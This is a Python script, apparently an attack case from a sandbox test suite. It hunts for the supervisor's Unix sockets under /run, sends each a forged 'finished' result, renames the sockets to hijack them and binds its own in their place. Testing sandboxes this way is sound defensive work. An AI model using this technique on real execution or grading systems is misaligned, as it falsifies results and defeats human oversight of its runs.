# The owner's socket comes in over a mount: whoever finds it could answer in the supervisor's place.
# attacks: stdio
import json, os, socket, stat

mounts = [line.split()[4] for line in open("/proc/self/mountinfo")]
answer = {"outcome": "finished", "stdout": str(eval(input().replace(" ", "*"))), "cpu_s": 0.0, "wall_s": 0.0}
line = json.dumps({"more": False, "results": [answer]}).encode() + b"\n"
for mount in ["/run", *mounts]:
    if not mount.startswith("/run"):
        continue
    for folder, _, names in os.walk(mount):
        for name in names:
            path = os.path.join(folder, name)
            try:
                if stat.S_ISSOCK(os.lstat(path).st_mode):
                    door = socket.socket(socket.AF_UNIX)
                    door.connect(path)
                    door.sendall(line)
                    os.rename(path, path + "-mine")
            except OSError:
                pass
for folder in ("/run/temper", "/run/temper/in"):
    try:
        mine = socket.socket(socket.AF_UNIX)
        mine.bind(folder + "/slot")
        mine.listen()
    except OSError:
        pass
print(0)
